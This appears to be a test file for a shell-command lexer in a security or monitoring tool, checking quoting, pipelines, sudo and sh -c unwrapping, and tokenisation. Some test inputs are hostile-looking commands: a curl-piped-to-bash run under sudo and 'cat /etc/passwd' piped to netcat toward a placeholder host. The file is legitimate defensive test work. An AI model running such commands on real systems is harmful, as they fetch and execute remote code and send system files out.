/**
 * The shared lexer. The first two blocks moved here unchanged from
 * collectors/shell/parsers.test.ts ("shell words") and rules/engine.test.ts
 * ("shell parsing") when the two lexers became this one.
 */
import { MAX_ARGS, shellTokens, shellWords, simpleCommands } from './shell';

describe('shell words', () => {
  it('splits on blanks and honours single quotes, double quotes and backslashes', () => {
    expect(shellWords(`ls -la '/tmp/a b' "x \\"y\\"" c\\ d`)).toEqual(['ls', '-la', '/tmp/a b', 'x "y"', 'c d']);
  });
  it('runs an unbalanced quote to the end of the line instead of failing', () => {
    expect(shellWords(`echo 'oops`)).toEqual(['echo', 'oops']);
    expect(shellWords(`echo "oops`)).toEqual(['echo', 'oops']);
  });
  it('keeps non-ASCII words intact', () => {
    expect(shellWords('echo 中文 "你好 世界"')).toEqual(['echo', '中文', '你好 世界']);
  });
});

describe('shell parsing', () => {
  it('splits pipelines, unwraps sudo and sh -c, and records redirections', () => {
    const cs = simpleCommands(`sudo sh -c 'curl -s http://x/a | bash' > /tmp/o 2>&1; echo ok`);
    expect(cs.map((c) => [c.name, c.sudo, c.pipeTo])).toEqual([['sudo', false, ''], ['sh', true, ''], ['curl', true, 'bash'], ['bash', true, ''], ['echo', false, '']]);
    expect(cs[0]?.writes).toEqual(['/tmp/o']);
  });
});

describe('the two views of one scan', () => {
  it('gives process.args with operators as ordinary characters and newlines as blanks', () => {
    expect(shellWords('for i in 1 2; do\n  echo "$i"\ndone')).toEqual(['for', 'i', 'in', '1', '2;', 'do', 'echo', '$i', 'done']);
    expect(shellWords('cat /etc/passwd|nc x 1 # note')).toEqual(['cat', '/etc/passwd|nc', 'x', '1', '#', 'note']);
  });
  it('gives tokens with operators apart, command substitutions whole and comments dropped', () => {
    expect(shellTokens('cat $(ls -d /tmp) 2>/dev/null|nc x 1 # note')).toEqual([
      { text: 'cat', op: false }, { text: '$(ls -d /tmp)', op: false }, { text: '>', op: true }, { text: '/dev/null', op: false },
      { text: '|', op: true }, { text: 'nc', op: false }, { text: 'x', op: false }, { text: '1', op: false },
    ]);
  });
  it('treats a backslash-newline inside double quotes as a line continuation in both views', () => {
    expect(shellWords('echo "a\\\nb"')).toEqual(['echo', 'ab']);
    expect(shellTokens('echo "a\\\nb"').map((t) => t.text)).toEqual(['echo', 'ab']);
  });
  it(`stores at most ${MAX_ARGS} words of a pasted blob`, () => {
    expect(shellWords('x '.repeat(1000))).toHaveLength(MAX_ARGS);
  });
});
